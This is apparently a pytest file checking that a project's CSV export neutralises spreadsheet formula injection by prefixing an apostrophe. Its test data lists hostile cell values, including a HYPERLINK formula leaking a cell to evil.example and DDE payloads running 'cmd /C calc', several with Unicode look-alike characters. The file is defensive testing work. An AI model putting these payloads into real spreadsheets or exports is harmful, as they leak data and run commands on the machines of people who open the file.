"""No CSV the project writes holds a cell that a spreadsheet would run as a formula (OWASP's
CSV-injection rule): hostile titles come out with an apostrophe in front, and nothing else
changes."""

from __future__ import annotations

import csv
import io
from dataclasses import replace
from pathlib import Path

import pytest

from generator.outputs.csvfile import FORMULA_STARTS, csv_text, inert
from generator.outputs.opendata import matrix_csv
from generator.project import load_project

from .helpers import ROOT, run_cli

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",  # fullwidth equals sign
    "＋1",
    "－1",
    "＠SUM(A1)",
    "﹦1+1",  # small equals sign
    'Plain, with "quotes",\ncommas and a line break',
]


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def _live(rows: list[list[str]]) -> list[str]:
    return [cell for row in rows for cell in row if cell[:1] in FORMULA_STARTS]


@pytest.mark.parametrize("cell", HOSTILE)
def test_a_hostile_cell_is_inert_and_otherwise_unchanged(cell: str) -> None:
    (row,) = _cells(csv_text([[cell, "ok"]]))
    assert row[1] == "ok"
    if cell[0] in FORMULA_STARTS:
        assert row[0] == "'" + cell
    else:
        assert row[0] == cell
    assert not _live([row])


def test_safe_cells_are_untouched() -> None:
    for cell in ("", "Councillors", "farnham-3-5 farnham-3-6", "full", "1.10", "'quoted"):
        assert inert(cell) == cell


def test_matrix_csv_with_hostile_titles() -> None:
    project, _ = load_project(ROOT)
    assert project.obligations is not None
    omap = project.obligations
    hostile = tuple(
        replace(o, title=HOSTILE[i % len(HOSTILE)]) for i, o in enumerate(omap.obligations)
    )
    rows = _cells(matrix_csv(replace(omap, obligations=hostile), project.protocols))
    assert not _live(rows)
    titles = [row[2] for row in rows[1:]]
    assert titles == [inert(o.title) for o in hostile]
    assert len({len(row) for row in rows}) == 1  # no row split by a line break or quote


def test_export_of_a_hostile_map_writes_an_inert_csv(tmp_path: Path) -> None:
    (tmp_path / "source_protocols").symlink_to(ROOT / "source_protocols")
    clauses = (ROOT / "clauses.yaml").read_text(encoding="utf-8")
    start = clauses.index("\nobligations:")
    title = next(line for line in clauses[start:].split("\n") if line.lstrip().startswith("title:"))
    payload = title.split("title:")[0] + 'title: \'=HYPERLINK("http://evil.example","x")\''
    (tmp_path / "clauses.yaml").write_text(clauses.replace(title, payload, 1), "utf-8")
    code, _, err = run_cli("--root", str(tmp_path), "export", str(tmp_path / "out"))
    assert code == 0, err
    rows = _cells((tmp_path / "out" / "matrix.csv").read_text(encoding="utf-8"))
    assert '\'=HYPERLINK("http://evil.example","x")' in [row[2] for row in rows]
    assert not _live(rows)
